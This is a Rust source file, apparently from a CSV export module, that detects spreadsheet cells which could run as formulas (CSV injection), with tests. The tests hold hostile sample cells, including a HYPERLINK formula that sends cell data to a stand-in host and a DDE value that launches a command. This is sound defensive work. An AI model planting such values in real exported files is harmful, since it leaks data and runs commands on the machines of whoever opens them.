//! Cells that a spreadsheet takes for a formula, which may send the other cells to whoever wrote it (OWASP, "CSV
//! Injection").
//!
//! What OWASP leaves open: a number with a sign stays as it is, since it is worth nothing as a text and can do no harm;
//! a cell that starts with a line feed or a full-width sign counts as well; white space before a sign does not, as no
//! spreadsheet passes over it. A file that is opened with another separator than its own is out of reach.

/// Whether a spreadsheet may compute `cell` instead of showing it.
pub(super) fn is_formula(cell: &str) -> bool {
    let starts_one = |c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠');
    cell.starts_with(starts_one) && !is_number(cell)
}

/// Whether `cell` is a sign, digits, and maybe a fraction.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = digits.split_once(['.', ',']).unwrap_or((digits, "0"));
    [whole, fraction].iter().all(|part| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_starts_with_a_sign_and_is_no_number_is_a_formula() {
        for cell in [
            "=1+1",
            "=HYPERLINK(\"http://a.test/\"&A1)",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1",
            "-",
            "--5",
            "-5.",
            "-.5",
            "-1.5.5",
            "-1e5",
            "+49 30 1234",
            "-5\n=1",
        ] {
            assert!(is_formula(cell), "{cell:?}");
        }
    }

    #[test]
    fn numbers_and_other_texts_are_none() {
        for cell in
            ["", "-5", "+3.25", "-1,5", "5", "a=b", "'=1", " =1", "https://a.test/?q=1", "{\"a\":\"=1\"}", "日本"]
        {
            assert!(!is_formula(cell), "{cell:?}");
        }
    }
}
